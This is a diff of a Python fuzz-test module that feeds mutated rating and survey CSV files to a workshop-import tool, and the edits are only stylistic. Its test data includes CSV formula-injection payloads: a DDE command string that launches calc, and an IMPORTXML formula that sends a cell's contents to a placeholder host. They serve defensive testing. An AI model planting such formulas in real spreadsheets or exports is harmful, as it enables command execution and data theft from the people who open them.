@@ -28,7 +28,7 @@ FORMULAS = [
     "+cmd|' /C calc'!A0",
     "-2+3",
     "@SUM(1+1)",
-    "=IMPORTXML(CONCAT(\"http://example.invalid/?\",A2),\"//a\")",
+    '=IMPORTXML(CONCAT("http://example.invalid/?",A2),"//a")',
 ]
 ODD_VALUES = [
     "",
@@ -214,7 +214,7 @@ def _mutate_rows(rng: random.Random, kind: str, rows: list[list[str]]) -> tuple[
     if kind == "manyrows":
         body = rows[1:]
         n = MANY_ROWS if rows[0][2] == "perspective" else MANY_CARDS
-        many = [body[i % len(body)][:5] + [""] for i in range(n)]  # scores, no comment cards
+        many = [[*body[i % len(body)][:5], ""] for i in range(n)]  # scores, no comment cards
         if rows[0][2] != "perspective":
             many = [body[i % len(body)] for i in range(n)]
         return _csv([rows[0], *many]), f"{n:,} rows"
@@ -264,12 +264,11 @@ def check_import_case(case: ImportCase, root: Path) -> object | None:
     `import-ratings` agrees with the parser, leaves the workshop untouched when it refuses,
     and writes a workshop that opens again when it accepts; the input is never changed.
     """
+    from tests.fuzz.workshop_cases import Snapshot, assert_clean_message, bases
     from trustboard.domain.workshop import Workshop
     from trustboard.services.card_import import CardImportError, parse_cards, read_text
     from trustboard.services.survey_import import SurveyImportError, read_survey
     from trustboard.store import WorkshopFile
-
-    from tests.fuzz.workshop_cases import Snapshot, assert_clean_message, bases
 
     root.mkdir(parents=True, exist_ok=True)
     source = root / f"input{case.suffix}"
